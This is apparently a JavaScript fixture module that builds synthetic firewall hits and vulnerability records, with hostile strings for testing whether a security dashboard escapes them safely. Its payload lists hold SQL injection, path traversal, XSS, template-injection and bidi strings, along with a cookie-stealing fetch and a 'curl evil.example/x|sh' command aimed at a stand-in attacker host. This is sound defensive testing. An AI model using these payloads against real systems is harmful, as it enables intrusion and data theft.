// Events as callers post them: ordinary ones that look like a day's traffic, and ones by an attacker who knows that people will look at them.

// The same numbers in each run, so that pictures can be compared.
export function randomly(seed) {
    let state = seed >>> 0;
    const next = () => {
        state = (state + 0x6d2b79f5) >>> 0;
        let mixed = Math.imul(state ^ (state >>> 15), state | 1);
        mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
        return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
    };
    return { next, below: (n) => Math.floor(next() * n), of: (list) => list[Math.floor(next() * list.length)] };
}

const SIGNS = [
    ['sqli', 40, ["1' or '1'='1", "1 union select user,password from users--", "'; waitfor delay '0:0:5'--", '1) and sleep(5)#']],
    ['xss', 25, ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', "javascript:fetch('//evil.example/'+document.cookie)"]],
    ['ptrav', 14, ['../../../../etc/passwd', '..%2f..%2f..%2fwindows/win.ini', '/proc/self/environ']],
    ['rce', 9, ['; cat /etc/passwd', '$(curl evil.example/x|sh)', '${jndi:ldap://evil.example/a}']],
    ['scanner', 16, ['sqlmap/1.7.2#stable', 'Nikto/2.5.0', 'nuclei']],
    ['ssrf', 4, ['http://169.254.169.254/latest/meta-data/']],
    ['crlf', 3, ['%0d%0aSet-Cookie: session=1']],
    ['xxe', 2, ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>']],
    ['nosqli', 3, ['{"$ne": null}']],
    ['ldapi', 1, ['*)(uid=*))(|(uid=*']],
];
const WHERE = [
    ['shop.example.com', ['/search', '/cart/add', '/login', '/product/1842']],
    ['api.example.com', ['/v1/orders', '/v1/users/me', '/graphql']],
    ['www.example.com', ['/', '/wp-login.php', '/contact']],
    ['intranet.example.com', ['/reports/export', '/files']],
];
const POINTS = [['get', 'q'], ['get', 'id'], ['post', 'form_urlencoded', 'email'], ['header', 'USER-AGENT'], ['uri'], ['post', 'json_doc', 'hash', 'name']];

// Ordinary hits, `count` of them, spread over the last `hours`.
export function hits(random, count, hours = 24) {
    const weights = SIGNS.reduce((sum, [, weight]) => sum + weight, 0);
    const now = Math.floor(Date.now() / 1000);
    return Array.from({ length: count }, (_, n) => {
        let at = random.next() * weights;
        const [type, , payloads] = SIGNS.find(([, weight]) => (at -= weight) < 0) ?? SIGNS[0];
        const [domain, paths] = random.of(WHERE);
        const isBlocked = random.next() < 0.7;
        const time = now - Math.floor(random.next() ** 1.5 * hours * 3600);
        return {
            object_type: 'hit',
            type,
            domain,
            path: random.of(paths),
            method: random.of(['GET', 'GET', 'POST', 'PUT']),
            point: random.of(POINTS),
            payloads: [random.of(payloads)],
            remote_addr4: `${random.of(['203.0.113', '198.51.100', '192.0.2'])}.${1 + random.below(40)}`,
            remote_country: random.of(['DE', 'US', 'FR', 'BR', 'IN', null]),
            response_status: isBlocked ? 403 : random.of([200, 200, 404, 500]),
            response_len: random.below(20_000),
            response_time: random.below(900),
            block_status: isBlocked ? 'blocked' : 'monitored',
            request_time: time,
            create_time: time + 1,
            stamps: [942_100 + random.below(300)],
            probability: 5 + random.below(20),
            request_id: `req-${n}-${random.below(1e9).toString(36)}`,
        };
    });
}

const ISSUES = [
    ['SQL injection in the search', 'sqli', 'Critical', '/search', 'GET_q_value'],
    ['Remote code execution through the template of a report', 'ssti', 'Critical', '/reports/export', 'POST_JSON_DOC_HASH_template_value'],
    ['Stored cross-site scripting in a display name', 'xss', 'High', '/v1/users/me', 'POST_JSON_DOC_HASH_name_value'],
    ["Another user's orders can be read", 'idor', 'High', '/v1/orders', 'GET_id_value'],
    ['Version of the web server is shown', 'Info', 'Info', '/', 'HEADER_SERVER_value'],
    ['Weak cipher suites', 'weak_crypto', 'Medium', '/', ''],
    ['Session cookie without Secure', 'misconfig', 'Low', '/login', 'HEADER_SET-COOKIE_value'],
    ['Known vulnerability in a component: jquery 1.11.0', 'vuln_component', 'Medium', '/contact', ''],
];

export function vulnerabilities() {
    return ISSUES.map(([title, type, threat, path, parameter], n) => ({
        object_type: 'vuln',
        id: `vuln-${n}`,
        title,
        type,
        threat,
        domain: WHERE[n % WHERE.length][0],
        source: `93.184.216.${34 + n}:443`,
        method: 'GET',
        path,
        parameter,
        discovered_by: n % 2 === 0 ? 'scanner' : 'passive',
        summary: 'New vulnerability identified',
        link: `https://scanner.example.com/vulns/${n}`,
        description: `${title}. Found on ${WHERE[n % WHERE.length][0]}${path}.`,
    }));
}

// Each stands for a way to get out of a page's text. If one is taken for markup or script, the content security policy stops it, and the
// harness sees that; if the policy were not there, `hostile` would be set or the page renamed.
export const HOSTILE = {
    script: '</textarea></title></script><script>window.hostile = 1; document.title = "hostile"</script>',
    markup: '"><img src=x onerror="window.hostile = 1"><svg onload=alert(1)><a href="javascript:alert(1)">click</a><h1>hostile heading</h1>',
    attribute: `' onfocus=alert(1) autofocus x='" onfocus=alert(1) autofocus x="\``,
    htmx: '<div hx-get="/dashboard" hx-trigger="load">hostile htmx</div><form action="//evil.example"><button>hostile button</button></form>',
    template: '{{7*7}}{% include "x" %}${7*7}<%= 7*7 %>',
    bidi: 'user\u202e\u2066txt.exe\u2069\u202c \u200f\u061c\u200b\ufeffend',
    control: 'a\u0000b\u0007c\u001b[31mred\u001b[0m\u0008\u009b2Jd\r\nnext\u2028line\u2029par',
    long: 'A'.repeat(100_000),
    combining: `z${'\u0301\u0321'.repeat(300)}`,
};

// What a page must show in place of characters that do something to a reader's eyes or terminal.
export const INVISIBLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/;

// Hits with hostile text wherever a hit has text.
export function hostileHits() {
    const now = Math.floor(Date.now() / 1000);
    return Object.entries(HOSTILE).map(([name, text], n) => {
        const short = text.slice(0, 2_000);
        return {
            object_type: 'hit',
            type: name === 'long' ? 'sqli' : short.slice(0, 60),
            domain: short.slice(0, 250),
            path: `/${text}`,
            method: short.slice(0, 40),
            parameter: short,
            point: ['get', short],
            payloads: [text, short],
            remote_addr4: `203.0.113.${n + 1}`,
            remote_country: 'XX',
            block_status: 'monitored',
            request_time: now,
            create_time: now,
            response_status: 200,
            request_id: short,
            headers: { [`X-${name}`]: [short], 'User-Agent': [text] },
            unknown_field: text,
        };
    });
}

export function hostileVulnerabilities() {
    return Object.entries(HOSTILE).map(([name, text]) => ({
        object_type: 'vuln',
        id: `hostile-${name}`,
        title: text,
        type: text.slice(0, 60),
        threat: 'High',
        domain: text.slice(0, 250),
        source: text.slice(0, 250),
        path: `/${text}`,
        method: 'GET',
        parameter: text,
        discovered_by: text.slice(0, 100),
        summary: text,
        link: `javascript:alert(1)//${name}`,
        description: text,
    }));
}
